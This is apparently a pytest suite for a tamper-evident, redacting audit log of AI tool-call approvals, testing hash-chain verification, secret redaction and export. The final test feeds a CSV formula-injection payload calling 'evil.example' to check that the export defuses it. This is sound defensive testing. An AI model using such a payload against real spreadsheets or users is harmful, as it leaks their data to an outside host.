"""The audit log: durable, append-only, hash-chained, redacted, queryable and exportable."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import sqlite3
import stat
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlite_utils import Database

from approver.audit.log import (
    ARGUMENTS_CAP,
    COLUMNS,
    GENESIS_HASH,
    AuditError,
    AuditLog,
    AuditWriteError,
    CallFilter,
    canonical_json,
    check_chain,
    parse_since,
    row_hash,
)
from approver.audit.redact import Redactor
from approver.testing.records import decision_record as decision
from approver.testing.records import outcome_record as outcome

T0 = datetime(2025, 3, 1, 12, 0, 0, tzinfo=UTC)


class Clock:
    """A clock the test moves by hand."""

    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> datetime:
        return self.now

    def advance(self, **delta: float) -> None:
        self.now += timedelta(**delta)


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def db_path(tmp_path: Path) -> Path:
    return tmp_path / "data" / "audit.db"


@pytest.fixture
def log(db_path: Path, clock: Clock) -> Iterator[AuditLog]:
    with AuditLog(db_path, Redactor(["keyring-secret-value"]), clock=clock) as audit_log:
        yield audit_log


def raw(path: Path) -> sqlite3.Connection:
    """A second, plain connection: what another process (or an attacker) would see."""
    conn = sqlite3.connect(path, isolation_level=None)
    conn.row_factory = sqlite3.Row
    return conn


def write_calls(log: AuditLog, count: int) -> None:
    for index in range(count):
        log.record_decision(decision(f"call-{index}"))
        log.record_outcome(outcome(f"call-{index}"))


def test_a_decision_is_readable_from_a_second_connection_as_soon_as_it_is_recorded(
    log: AuditLog, db_path: Path
) -> None:
    row_id = log.record_decision(decision())

    with raw(db_path) as conn:
        row = conn.execute("SELECT * FROM events WHERE id = ?", (row_id,)).fetchone()
    assert (row["kind"], row["call_id"], row["decision"]) == ("decision", "call-1", "allow")
    assert row["ts"] == "2025-03-01T12:00:00.000Z"
    assert row["prev_hash"] == GENESIS_HASH


def test_the_log_uses_wal_and_is_readable_only_by_its_owner(log: AuditLog, db_path: Path) -> None:
    with raw(db_path) as conn:
        assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert stat.S_IMODE(db_path.stat().st_mode) == 0o600


@pytest.mark.parametrize("statement", ["UPDATE events SET decision = 'deny'", "DELETE FROM events"])
def test_update_and_delete_are_refused(log: AuditLog, db_path: Path, statement: str) -> None:
    log.record_decision(decision())

    with raw(db_path) as conn, pytest.raises(sqlite3.IntegrityError, match="append-only"):
        conn.execute(statement)
    assert log.verify().ok


def test_verify_passes_on_an_intact_log_of_1000_rows(log: AuditLog) -> None:
    write_calls(log, 500)

    report = log.verify()

    assert report.ok, report.problem
    assert report.rows == 1000
    assert report.first_bad_id is None
    assert report.last_hash == log.last_hash


def test_verify_names_a_row_edited_with_the_triggers_dropped(log: AuditLog, db_path: Path) -> None:
    write_calls(log, 20)

    with raw(db_path) as conn:
        conn.execute("DROP TRIGGER events_no_update")
        conn.execute("UPDATE events SET decision = 'allow', reason = 'nothing to see' WHERE id = 17")
    report = log.verify()

    assert not report.ok
    assert report.first_bad_id == 17
    assert "edited" in report.problem


def test_verify_names_the_next_row_when_an_edited_row_was_given_a_fresh_hash(
    log: AuditLog, db_path: Path
) -> None:
    write_calls(log, 5)
    with raw(db_path) as conn:
        conn.execute("DROP TRIGGER events_no_update")
        conn.execute("UPDATE events SET reason = 'edited' WHERE id = 3")
        edited = dict(conn.execute("SELECT * FROM events WHERE id = 3").fetchone())
        conn.execute("UPDATE events SET hash = ? WHERE id = 3", (row_hash(edited["prev_hash"], edited),))

    report = log.verify()

    assert (report.ok, report.first_bad_id) == (False, 4)
    assert "does not follow row 3" in report.problem


def test_verify_names_the_row_after_a_deleted_middle_row(log: AuditLog, db_path: Path) -> None:
    write_calls(log, 10)

    with raw(db_path) as conn:
        conn.execute("DROP TRIGGER events_no_delete")
        conn.execute("DELETE FROM events WHERE id = 8")
    report = log.verify()

    assert not report.ok
    assert report.first_bad_id == 9
    assert "deleted or inserted" in report.problem


def test_verify_detects_a_deleted_first_row(log: AuditLog, db_path: Path) -> None:
    write_calls(log, 2)
    with raw(db_path) as conn:
        conn.execute("DROP TRIGGER events_no_delete")
        conn.execute("DELETE FROM events WHERE id = 1")

    report = log.verify()

    assert (report.ok, report.first_bad_id) == (False, 2)
    assert "start of the log" in report.problem


def test_verify_detects_an_inserted_row(log: AuditLog, db_path: Path) -> None:
    write_calls(log, 3)
    forged = log.tail(after_id=0, limit=1)[0] | {"id": 7, "call_id": "forged"}
    with Database(db_path) as db:
        db.table("events").insert(forged)

    report = log.verify()

    assert (report.ok, report.first_bad_id) == (False, 7)
    assert "does not follow row 6" in report.problem


def test_verify_detects_rows_removed_from_the_end_while_the_log_is_open(log: AuditLog, db_path: Path) -> None:
    write_calls(log, 3)
    with raw(db_path) as conn:
        conn.execute("DROP TRIGGER events_no_delete")
        conn.execute("DELETE FROM events WHERE id > 4")

    report = log.verify()

    assert (report.ok, report.first_bad_id) == (False, 5)
    assert "removed from the end" in report.problem


def test_writes_from_several_threads_form_one_unbroken_chain(log: AuditLog) -> None:
    def write(worker: int) -> None:
        for index in range(25):
            log.record_decision(decision(f"{worker}-{index}"))
            log.record_outcome(outcome(f"{worker}-{index}"))

    with ThreadPoolExecutor(max_workers=4) as pool:
        list(pool.map(write, range(4)))

    report = log.verify()
    assert report.ok, report.problem
    assert report.rows == 200


def test_rows_removed_from_the_end_break_the_chain_at_the_next_write(log: AuditLog, db_path: Path) -> None:
    write_calls(log, 3)
    with raw(db_path) as conn:
        conn.execute("DROP TRIGGER events_no_delete")
        conn.execute("DELETE FROM events WHERE id > 4")

    log.record_decision(decision("after-truncation"))

    with AuditLog(db_path, read_only=True) as reader:
        report = reader.verify()
    assert (report.ok, report.first_bad_id) == (False, 7)
    assert "does not follow row 4" in report.problem


def test_reopening_the_log_continues_the_chain(db_path: Path, clock: Clock) -> None:
    with AuditLog(db_path, clock=clock) as first:
        write_calls(first, 2)
        last_hash = first.last_hash

    with AuditLog(db_path, clock=clock) as second:
        assert (second.last_id, second.last_hash) == (4, last_hash)
        second.record_decision(decision("call-after-reopen"))
        report = second.verify()

    assert report.ok, report.problem
    assert report.rows == 5


def test_stored_arguments_are_redacted_but_their_hash_is_of_the_original(log: AuditLog) -> None:
    arguments = {
        "url": "https://example.com/?key=keyring-secret-value",
        "headers": {"Authorization": "token abc", "X-Trace": "Bearer abcdefghijklmnopqrstuvwxyz"},
        "githubToken": "ghp_" + "a" * 36,
        "max_tokens": 256,
    }
    original = canonical_json(arguments)

    log.record_decision(decision(arguments=original))

    row = log.query()[0]
    stored = json.loads(row["arguments"])
    assert stored == {
        "url": "https://example.com/?key=[REDACTED:secret]",
        "headers": {"Authorization": "[REDACTED:authorization]", "X-Trace": "[REDACTED:bearer]"},
        "githubToken": "[REDACTED:token]",
        "max_tokens": 256,
    }
    assert row["args_sha256"] == hashlib.sha256(original).hexdigest()
    assert row["args_size"] == len(original)
    assert row["args_truncated"] == 0


def test_reasons_and_errors_are_redacted_too(log: AuditLog) -> None:
    log.record_decision(decision(reason="matched keyring-secret-value"))
    log.record_outcome(outcome(outcome="error", error="401 for token sk-ant-api03-" + "x" * 30))

    row = log.query()[0]

    assert row["reason"] == "matched [REDACTED:secret]"
    assert row["error"] == "401 for token [REDACTED:anthropic]"


def test_a_1_mb_argument_is_stored_as_a_capped_preview_with_its_size_and_hash(log: AuditLog) -> None:
    content = "x" * 500_000 + " keyring-secret-value " + "y" * 500_000
    original = canonical_json({"content": content})

    log.record_decision(decision(arguments=original))

    row = log.query()[0]
    assert row["args_truncated"] == 1
    assert len(row["arguments"].encode()) == ARGUMENTS_CAP
    assert row["arguments"].startswith('{"content":"xxx')
    assert row["args_size"] == len(original)
    assert row["args_sha256"] == hashlib.sha256(original).hexdigest()
    assert log.verify().ok


def test_arguments_that_are_not_json_are_recorded_as_redacted_text(log: AuditLog) -> None:
    log.record_decision(decision(arguments=b"not json keyring-secret-value \xff"))

    assert log.query()[0]["arguments"] == "not json [REDACTED:secret] \ufffd"


def test_an_outcome_row_names_the_client_server_and_tool_of_its_decision(log: AuditLog) -> None:
    log.record_decision(decision())
    row_id = log.record_outcome(outcome(duration_ms=7))

    row = log.tail(after_id=row_id - 1)[0]

    assert (row["kind"], row["client"], row["server"], row["tool"]) == (
        "outcome",
        "claude",
        "files",
        "files__read_file",
    )
    assert row["duration_ms"] == 7.0
    assert log.verify().ok


def test_query_joins_each_decision_with_its_outcome(log: AuditLog, clock: Clock) -> None:
    log.record_decision(decision("a"))
    clock.advance(milliseconds=40)
    log.record_outcome(outcome("a", result_sha256="ab" * 32))
    log.record_decision(decision("b", decision="deny", decided_by="user"))

    calls = log.query()

    assert [call["call_id"] for call in calls] == ["b", "a"]
    assert calls[0]["outcome"] is None
    assert calls[1]["outcome"] == "ok"
    assert calls[1]["duration_ms"] == 12.5
    assert calls[1]["result_sha256"] == "ab" * 32
    assert calls[1]["outcome_ts"] == "2025-03-01T12:00:00.040Z"
    assert calls[1]["risk_reasons"] == ["name starts with read"]


def test_query_and_count_filter_by_decision_risk_server_client_and_text(log: AuditLog) -> None:
    log.record_decision(decision("1"))
    log.record_decision(decision("2", decision="deny", risk_class="destructive", server="shell"))
    log.record_decision(decision("3", client="cursor", tool="files__write_file"))
    log.record_decision(decision("4", arguments=canonical_json({"path": "/home/100%_sure"})))

    def ids(where: CallFilter) -> list[str]:
        assert log.count(where) == len(log.query(where))
        return sorted(call["call_id"] for call in log.query(where))

    assert ids(CallFilter(decision="deny")) == ["2"]
    assert ids(CallFilter(risk_class="destructive")) == ["2"]
    assert ids(CallFilter(server="files")) == ["1", "3", "4"]
    assert ids(CallFilter(client="cursor")) == ["3"]
    assert ids(CallFilter(text="WRITE")) == ["3"]
    assert ids(CallFilter(text="100%_s")) == ["4"]
    assert ids(CallFilter(text="0%s")) == []
    assert ids(CallFilter(server="files", client="claude")) == ["1", "4"]


def test_query_filters_by_time_and_pages_newest_first(log: AuditLog, clock: Clock) -> None:
    for index in range(6):
        log.record_decision(decision(str(index)))
        clock.advance(hours=1)

    window = CallFilter(since=T0 + timedelta(hours=1), until=T0 + timedelta(hours=4))

    assert [call["call_id"] for call in log.query(window)] == ["3", "2", "1"]
    assert log.count(window) == 3
    assert [call["call_id"] for call in log.query(limit=2, offset=1)] == ["4", "3"]


def test_tail_returns_rows_after_an_id_oldest_first(log: AuditLog) -> None:
    write_calls(log, 3)

    assert [row["id"] for row in log.tail(after_id=2, limit=3)] == [3, 4, 5]
    assert log.tail(after_id=6) == []


def test_export_jsonl_since_writes_only_newer_rows_with_every_column(log: AuditLog, clock: Clock) -> None:
    for index in range(3):
        log.record_decision(decision(str(index)))
        log.record_outcome(outcome(str(index)))
        clock.advance(hours=1)
    out = io.StringIO()

    written = log.export(out, "jsonl", since=T0 + timedelta(minutes=90))

    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert written == len(rows) == 2
    assert [(row["call_id"], row["kind"]) for row in rows] == [("2", "decision"), ("2", "outcome")]
    assert list(rows[0]) == list(COLUMNS)


def test_a_full_jsonl_export_can_be_verified_on_its_own(log: AuditLog) -> None:
    write_calls(log, 4)
    out = io.StringIO()
    log.export(out, "jsonl")

    rows = [json.loads(line) for line in out.getvalue().splitlines()]

    assert check_chain(rows).ok
    rows[3]["decision"] = "allow"
    rows[2]["outcome"] = "error"
    assert check_chain(rows).first_bad_id == 3


def test_export_csv_has_a_header_and_one_record_per_row(log: AuditLog) -> None:
    log.record_decision(decision(reason='said "yes",\nthen left'))
    log.record_outcome(outcome())
    out = io.StringIO(newline="")

    written = log.export(out, "csv")

    records = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert written == len(records) == 2
    assert records[0]["reason"] == 'said "yes",\nthen left'
    assert records[1]["decision"] == ""
    assert records[1]["duration_ms"] == "12.5"


def test_export_with_a_decision_filter_keeps_both_rows_of_matching_calls(log: AuditLog) -> None:
    log.record_decision(decision("a"))
    log.record_decision(decision("b", decision="deny"))
    log.record_outcome(outcome("b", outcome="not_forwarded", duration_ms=0))
    log.record_outcome(outcome("a"))
    out = io.StringIO()

    written = log.export(out, "jsonl", where=CallFilter(decision="deny"))

    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert written == 2
    assert [(row["call_id"], row["kind"]) for row in rows] == [("b", "decision"), ("b", "outcome")]


def test_a_failed_write_raises_and_leaves_the_chain_consistent(log: AuditLog) -> None:
    log.record_decision(decision("same-id"))
    before = (log.last_id, log.last_hash)

    with pytest.raises(AuditWriteError, match="could not write to the audit log"):
        log.record_decision(decision("same-id"))

    assert (log.last_id, log.last_hash) == before
    log.record_decision(decision("next"))
    assert log.verify().ok


def test_a_write_failing_inside_sqlite_does_not_advance_the_chain(log: AuditLog, db_path: Path) -> None:
    log.record_decision(decision("a"))
    before = (log.last_id, log.last_hash)
    with raw(db_path) as conn:
        conn.execute(
            "CREATE TRIGGER disk_full BEFORE INSERT ON events BEGIN SELECT RAISE(ABORT, 'disk is full'); END"
        )

    with pytest.raises(AuditWriteError, match="disk is full"):
        log.record_outcome(outcome("a"))

    assert (log.last_id, log.last_hash) == before
    with raw(db_path) as conn:
        conn.execute("DROP TRIGGER disk_full")
    log.record_outcome(outcome("a"))
    report = log.verify()
    assert report.ok, report.problem
    assert report.rows == 2


def _can_write(path: Path) -> bool:
    """Whether this process can still write ``path`` despite its mode (true for root)."""
    try:
        with path.open("r+b"):
            return True
    except PermissionError:
        return False


def test_a_read_only_log_refuses_writes_and_stays_verifiable(db_path: Path, clock: Clock) -> None:
    with AuditLog(db_path, clock=clock) as writer:
        write_calls(writer, 2)
        last_hash = writer.last_hash
    folder = db_path.parent
    db_path.chmod(0o444)
    folder.chmod(0o555)
    try:
        if _can_write(db_path):
            # Root ignores file modes: open with SQLite's own read-only mode instead.
            with (
                AuditLog(db_path, clock=clock, read_only=True) as reader,
                pytest.raises(AuditWriteError, match="read-only"),
            ):
                reader.record_decision(decision("refused"))
        else:
            with pytest.raises(AuditWriteError, match="read-only"):
                AuditLog(db_path, clock=clock)
    finally:
        folder.chmod(0o755)
        db_path.chmod(0o600)

    with AuditLog(db_path, clock=clock) as reopened:
        assert reopened.last_hash == last_hash
        reopened.record_decision(decision("after"))
        report = reopened.verify()
    assert report.ok, report.problem
    assert report.rows == 5


def test_opening_a_file_that_is_not_an_audit_log_read_only_says_so(tmp_path: Path) -> None:
    other = tmp_path / "other.db"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE t (x)")
    conn.close()

    with pytest.raises(AuditError, match="not an approver audit log"):
        AuditLog(other, read_only=True)


def test_a_read_only_log_reads_what_the_writer_committed(log: AuditLog, db_path: Path) -> None:
    write_calls(log, 2)

    with AuditLog(db_path, read_only=True) as reader:
        assert reader.verify().ok
        assert reader.count() == 2
        assert reader.last_hash == log.last_hash


def test_a_log_from_a_newer_schema_version_is_refused(db_path: Path) -> None:
    AuditLog(db_path).close()
    with raw(db_path) as conn:
        conn.execute("PRAGMA user_version = 99")

    with pytest.raises(AuditError, match="newer approver"):
        AuditLog(db_path)


def test_parse_since_accepts_durations_and_iso_times() -> None:
    now = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)

    assert parse_since("30m", now) == now - timedelta(minutes=30)
    assert parse_since("1h", now) == now - timedelta(hours=1)
    assert parse_since("2d", now) == now - timedelta(days=2)
    assert parse_since("2025-02-01", now) == datetime(2025, 2, 1, tzinfo=UTC)
    assert parse_since("2025-02-01T10:00:00+02:00", now) == datetime(2025, 2, 1, 8, tzinfo=UTC)


def test_parse_since_rejects_anything_else_with_a_readable_message() -> None:
    with pytest.raises(ValueError, match="use a duration like 30m"):
        parse_since("yesterday")


def test_canonical_json_sorts_keys_and_keeps_non_ascii() -> None:
    assert canonical_json({"b": 1, "a": ["é", None]}) == '{"a":["é",null],"b":1}'.encode()


def test_append_commits_several_rows_in_one_chain_and_without_sync_they_are_still_readable(
    log: AuditLog, db_path: Path
) -> None:
    ids = log.append([decision("a"), outcome("a"), decision("b")], sync=False)

    with raw(db_path) as conn:
        kinds = [tuple(row) for row in conn.execute("SELECT id, call_id, kind FROM events ORDER BY id")]
    assert kinds == [(ids[0], "a", "decision"), (ids[1], "a", "outcome"), (ids[2], "b", "decision")]
    assert log.sync() is True
    assert log.verify().ok


def test_append_is_all_or_nothing(log: AuditLog, db_path: Path) -> None:
    log.record_decision(decision("taken"))
    before = (log.last_id, log.last_hash)

    with pytest.raises(AuditWriteError):
        log.append([decision("new"), decision("taken")])

    assert (log.last_id, log.last_hash) == before
    with raw(db_path) as conn:
        assert conn.execute("SELECT count(*) FROM events").fetchone()[0] == 1


def test_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas(log: AuditLog) -> None:
    log.record_decision(decision(reason='=HYPERLINK("http://evil.example/?"&A1,"click")'))
    log.record_decision(decision(call_id="c2", reason="@SUM(1+1)"))
    log.record_decision(decision(call_id="c3", reason="-2+3"))
    log.record_decision(decision(call_id="c4", reason="plain reason"))
    out = io.StringIO(newline="")

    log.export(out, "csv")

    reasons = [record["reason"] for record in csv.DictReader(io.StringIO(out.getvalue(), newline=""))]
    assert reasons == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'@SUM(1+1)",
        "'-2+3",
        "plain reason",
    ]
